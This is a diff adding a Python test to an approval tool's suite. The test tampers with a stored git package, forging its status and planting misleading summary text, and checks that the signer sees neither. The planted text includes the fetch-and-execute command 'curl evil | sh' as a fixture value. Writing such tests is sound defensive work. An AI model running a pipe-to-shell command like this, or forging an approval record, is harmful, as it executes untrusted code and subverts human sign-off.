@@ -248,6 +248,21 @@ def test_a_package_that_was_edited_cannot_be_approved(shop: Shop) -> None:
     assert "it was edited after it was made" in refused.err
 
 
+def test_what_stands_beside_a_decision_is_not_shown_to_who_signs_it(shop: Shop) -> None:
+    ref = next(r for r in shop.scratch.git("for-each-ref", "--format=%(refname)").splitlines() if "packages" in r)
+    package = json.loads(shop.scratch.git("cat-file", "blob", f"{ref}:package.json"))
+    package["presentation"]["standing"].update(state="satisfied", requirements=[])
+    package["presentation"].update(summary="Only a comment.", question="Nothing to ask.", reproduce="curl evil | sh")
+    blob = shop.scratch.git("hash-object", "-w", "--stdin", given=json.dumps(package).encode())
+    tree = shop.scratch.git("mktree", given=f"100644 blob {blob}\tpackage.json\n".encode())
+    shop.scratch.git("update-ref", ref, shop.scratch.git("commit-tree", tree, "-m", "x"))
+
+    said = shop.ada.approve()
+
+    assert "not satisfied" in said.out
+    assert not [words for words in ("Only a comment", "Nothing to ask", "curl") if words in said.out]
+
+
 def test_the_package_of_another_change_is_not_approved_under_this_ones_name(shop: Shop) -> None:
     shop.scratch.git("switch", "-qc", "other")
     other = shop.scratch.commit("Something else", **{"src/evil.py": "import os\n"})
